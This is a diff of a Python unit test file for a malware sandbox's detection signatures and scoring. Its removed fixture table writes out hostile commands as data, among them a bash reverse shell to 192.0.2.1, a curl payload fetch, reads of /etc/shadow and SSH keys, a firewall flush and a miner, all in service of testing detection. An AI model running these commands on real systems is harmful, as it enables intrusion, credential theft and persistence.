@@ -2,169 +2,109 @@
 
 from typing import Any
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from services.results.domain.inputs import Behaviour, YaraMatch
-from services.results.domain.report import Evidence
-from services.results.policy import SIGNATURES, Matched, Observed, Signature, judge
+from services.plugins.builtin.behaviour.plugin import RULES, observed
+from services.results.assembly import assemble
+from services.results.domain.inputs import SeenMatch
+from services.results.domain.report import Evidence, Report
+from services.results.policy import Matched, judge
+from tests.unit.plugins.traced import lines_of
+from tests.unit.results.cases import case
 
 RESULT = "res_" + "0" * 32
-FIRST = {"pid": 1, "argv": ["/bin/sh", "/home/sample/a.sh"], "exe": "/bin/dash"}
-
-
-def seen(*, processes: tuple[list[str], ...] = (), **parts: Any) -> Behaviour:
-    """What the tracer saw: the sample's first process, its children, and the given lists."""
-    children = [
-        {"pid": pid, "ppid": 1, "argv": argv, "exe": f"/usr/bin/{argv[0]}"} for pid, argv in enumerate(processes, 2)
-    ]
-    return Behaviour.model_validate({"processes": [FIRST, *children], **parts})
-
-
-def written(*paths: str, action: str = "written") -> Behaviour:
-    """The sample wrote these files."""
-    return seen(files=[{"path": path, "actions": [action]} for path in paths])
-
-
-def reached(*attempts: tuple[str, int]) -> Behaviour:
-    """The sample tried these addresses."""
-    return seen(network=[{"address": address, "port": port, "protocol": "tcp"} for address, port in attempts])
-
-
-EXAMPLES: dict[str, Behaviour] = {
-    "preload_hijack": written("/etc/ld.so.preload"),
-    "cron_persistence": written("/etc/cron.d/updates", action="created"),
-    "crontab_command": seen(processes=(["crontab", "-"],)),
-    "systemd_persistence": written("/home/sample/.config/systemd/user/a.service"),
-    "shell_profile_persistence": written("/home/sample/.bashrc"),
-    "boot_script_persistence": written("/etc/rc.local"),
-    "autostart_persistence": written("/home/sample/.config/autostart/a.desktop"),
-    "ssh_key_persistence": written("/home/sample/.ssh/authorized_keys"),
-    "accounts_changed": written("/etc/passwd"),
-    "password_hashes_read": written("/etc/shadow", action="read"),
-    "keys_and_tokens_read": written("/home/sample/.ssh/id_ed25519", action="read"),
-    "many_files_rewritten": written(*(f"/home/sample/docs/{n}.odt" for n in range(50))),
-    "many_files_deleted": written(*(f"/home/sample/docs/{n}.odt" for n in range(30)), action="deleted"),
-    "deletes_itself": written("/home/sample/a.sh", action="deleted"),
-    "traces_removed": written("/home/sample/.bash_history", action="deleted"),
-    "kernel_module": seen(processes=(["insmod", "a.ko"],)),
-    "defences_impaired": seen(processes=(["iptables", "-F"],)),
-    "hidden_program": written("/tmp/.x11", action="created"),
-    "runs_what_it_wrote": seen(
-        processes=(["payload"],), files=[{"path": "/usr/bin/payload", "actions": ["created", "written"]}]
-    ),
-    "traces_another_process": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_ATTACH 1"}]),
-    "debugger_check": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_TRACEME = 0"}]),
-    "program_in_memory": seen(timeline=[{"event": "memfd_create", "detail": '"x", MFD_CLOEXEC = 3'}]),
-    "leaves_its_boundaries": seen(timeline=[{"event": "unshare", "detail": "CLONE_NEWUSER = 0"}]),
-    "download_tool": seen(processes=(["curl", "http://192.0.2.1/a"],)),
-    "reverse_shell": seen(processes=(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"],)),
-    "miner": seen(processes=(["xmrig", "-o", "pool"],)),
-    "network_attempt": reached(("192.0.2.1", 80)),
-    "unusual_port": reached(("192.0.2.1", 6667)),
-    "network_scan": reached(*((f"192.0.2.{n}", 22) for n in range(20))),
-    "dns_question": seen(network=[{"address": "192.0.2.53", "port": 53, "query": "c2.example"}]),
-    "spawns_shell": seen(processes=(["sh", "-c", "true"],)),
-    "system_discovery": seen(processes=(["uname", "-a"],)),
-    "virtual_machine_check": written("/sys/class/dmi/id/product_name", action="read"),
-    "many_processes": seen(processes=tuple(["true"] for _ in range(200))),
-}
-QUIET = seen(
-    processes=(["ls", "-l"], ["cat", "notes.txt"]),
-    files=[
-        {"path": "/home/sample/notes.txt", "actions": ["created", "written"]},
-        {"path": "/tmp/scratch", "actions": ["created", "deleted"]},
-        {"path": "/etc/passwd", "actions": ["read"]},
-    ],
-    network=[{"address": "127.0.0.1", "port": 6667}, {"family": "unix", "address": "/run/nscd/socket"}],
-)
-
-
-def observed(behaviour: Behaviour) -> Observed:
-    """The behaviour as a result."""
-    return Observed(behaviour, "behaviour", RESULT)
+QUIET = ("$ ls -l", "$ cat notes.txt", "write /home/sample/notes.txt", "write /tmp/scratch", "delete /tmp/scratch")
 
 
 def matched(severity: int, rule: str = "rule") -> Matched:
     """A rule that matched."""
     return Matched(
-        YaraMatch(rule=rule, severity=severity, attack=["T1105", "nonsense"]),
-        Evidence(plugin="yara", result_id=RESULT, pointer="/matches/0"),
+        SeenMatch(rule=rule, severity=severity, attack=["T1105", "nonsense"]),
+        (Evidence(plugin="yara", result_id=RESULT, pointer="/matches/0"),),
     )
 
 
-@pytest.mark.parametrize("signature", SIGNATURES, ids=lambda signature: signature.name)
-def test_each_signature_finds_what_it_is_for_and_leaves_a_quiet_program_alone(signature: Signature) -> None:
-    """Every row of the table has an example that it finds, and none of them finds anything in a quiet run."""
-    assert signature.condition.find(EXAMPLES[signature.name])
-    assert signature.condition.find(QUIET) == ()
-
-
-def test_a_fork_of_a_script_is_not_a_shell_that_it_started() -> None:
-    """A process that only copies its parent's program runs nothing new."""
-    fork = {**FIRST, "pid": 2, "ppid": 1}
-    again = {"pid": 3, "ppid": 2, "argv": ["sh", "-c", "true"], "exe": "/bin/sh"}
-    spawns = next(signature for signature in SIGNATURES if signature.name == "spawns_shell")
-    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork]})) == ()
-    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork, again]})) == ("/processes/2",)
-
-
-def test_a_system_call_that_loads_a_module_counts_like_the_command() -> None:
-    """The condition asks both questions."""
-    loaded = seen(timeline=[{"event": "finit_module", "detail": "3 = -1 EPERM"}])
-    assert judge([], observed(loaded), has_run=True).reasons[0].name == "kernel_module"
-
-
-def test_signatures_have_names_of_their_own_and_an_example_each() -> None:
-    """A name is used once, so that a reason is never ambiguous."""
-    names = [signature.name for signature in SIGNATURES]
-    assert len(set(names)) == len(names)
-    assert set(names) == set(EXAMPLES)
+def run_of(*lines: Any) -> tuple[dict[str, Any], Report]:
+    """What the rules say of a run, and the report of it."""
+    behaviour, signatures = observed(lines_of(lines), RULES)
+    documents = {"behaviour": behaviour.result(), "behaviour/signatures": signatures}
+    return signatures, assemble(case(documents))
 
 
 def test_a_rule_of_full_severity_makes_a_sample_malicious() -> None:
     """EICAR needs no machine to be called what it is."""
-    judgement = judge([matched(100, "eicar")], None, has_run=False)
+    judgement = judge([matched(100, "eicar")], has_run=False)
     assert (judgement.verdict, judgement.score) == ("malicious", 100)
     assert judgement.reasons[0].techniques == ("T1105",)
 
 
 def test_nothing_run_and_nothing_found_is_unknown() -> None:
     """Silence is not innocence."""
-    assert judge([], None, has_run=False).verdict == "unknown"
-    assert judge([], observed(Behaviour()), has_run=False).verdict == "unknown"
+    assert judge([], has_run=False).verdict == "unknown"
 
 
 def test_a_faint_hint_without_a_run_is_still_unknown() -> None:
     """A packed file that was never seen running is not called benign."""
-    assert judge([matched(10)], None, has_run=False).verdict == "unknown"
+    assert judge([matched(10)], has_run=False).verdict == "unknown"
 
 
 def test_a_quiet_run_is_benign_and_a_persistent_one_is_not() -> None:
     """The verdict follows what was seen."""
-    assert judge([], observed(QUIET), has_run=True).verdict == "benign"
-    assert judge([], observed(written("/etc/cron.d/x")), has_run=True).verdict == "suspicious"
-    both = written("/etc/cron.d/x", "/etc/ld.so.preload")
-    assert judge([], observed(both), has_run=True).verdict == "malicious"
+    assert run_of(*QUIET)[1].verdict == "benign"
+    assert run_of("write /etc/cron.d/x")[1].verdict == "suspicious"
+    assert run_of("write /etc/cron.d/x", "write /etc/ld.so.preload")[1].verdict == "malicious"
+
+
+def test_each_point_names_its_rule_and_leads_to_the_line_of_the_trace() -> None:
+    """A reason points to each piece of evidence of the match, and that to the line that strace wrote."""
+    lines = ("$ id", "write /etc/cron.d/x", "connect 192.0.2.1 6667")
+    signatures, report = run_of(*lines)
+    assert sum(reason.points for reason in report.reasons) == report.score
+    assert {reason.name for reason in report.reasons} >= {"cron_persistence", "unusual_port", "system_discovery"}
+    trace = list(lines_of(lines))
+    for reason in report.reasons:
+        for one in (reason.evidence, *reason.more_evidence):
+            at = _at(signatures, one.pointer)
+            assert (one.plugin, trace[at["line"] - 1].split()[0]) == ("behaviour", str(at["pid"]))
+    cron = next(reason for reason in report.reasons if reason.name == "cron_persistence")
+    assert "/etc/cron.d/x" in trace[_at(signatures, cron.evidence.pointer)["line"] - 1]
+
+
+def test_the_techniques_and_the_matches_of_a_run_are_in_the_report() -> None:
+    """Each technique has its name and the rules that point to it."""
+    _, report = run_of("write /etc/cron.d/x")
+    assert [(one.id, one.name, one.sources) for one in report.techniques] == [
+        ("T1053.003", "Cron", ("cron_persistence",))
+    ]
+    [match] = report.matches
+    assert (match.rule, match.strings) == ("cron_persistence", 2)
+
+
+def _at(document: Any, pointer: str) -> Any:
+    """What a JSON pointer points to."""
+    for part in pointer.split("/")[1:]:
+        document = document[int(part)] if isinstance(document, list) else document[part]
+    return document
 
 
 severities = st.lists(st.integers(0, 100), max_size=12)
-examples = st.sampled_from([QUIET, *EXAMPLES.values()])
+examples = st.sampled_from([QUIET, *(example for rule in RULES.rules for example in rule.hits)])
 
 
-@given(severities, examples)
-def test_the_points_of_all_reasons_add_up_to_the_score(found: list[int], behaviour: Behaviour) -> None:
+@given(examples)
+def test_the_points_of_all_reasons_of_a_run_add_up_to_the_score(example: tuple[Any, ...]) -> None:
     """Every point has a reason, every reason its evidence, and the score ends at 100."""
-    judgement = judge([matched(one) for one in found], observed(behaviour), has_run=True)
-    assert sum(reason.points for reason in judgement.reasons) == judgement.score <= 100
-    assert all(reason.points <= reason.weight for reason in judgement.reasons)
-    assert all(reason.evidence.pointer.startswith("/") for reason in judgement.reasons)
+    _, report = run_of(*example)
+    assert sum(reason.points for reason in report.reasons) == report.score <= 100
+    assert all(reason.points <= reason.weight for reason in report.reasons)
+    assert all(reason.evidence.pointer.startswith("/matches/") for reason in report.reasons)
 
 
-@given(severities, st.integers(0, 100), examples)
-def test_more_evidence_never_makes_a_sample_look_better(found: list[int], one: int, behaviour: Behaviour) -> None:
-    """The score grows with the evidence, or stays."""
-    before = judge([matched(severity) for severity in found], observed(behaviour), has_run=True)
-    after = judge([matched(severity) for severity in [*found, one]], observed(behaviour), has_run=True)
+@given(severities, st.integers(0, 100))
+def test_more_evidence_never_makes_a_sample_look_better(found: list[int], one: int) -> None:
+    """The score grows with the evidence, or stays, and is the sum of the reasons."""
+    before = judge([matched(severity) for severity in found], has_run=True)
+    after = judge([matched(severity) for severity in [*found, one]], has_run=True)
     assert after.score >= before.score
+    assert sum(reason.points for reason in after.reasons) == after.score <= 100
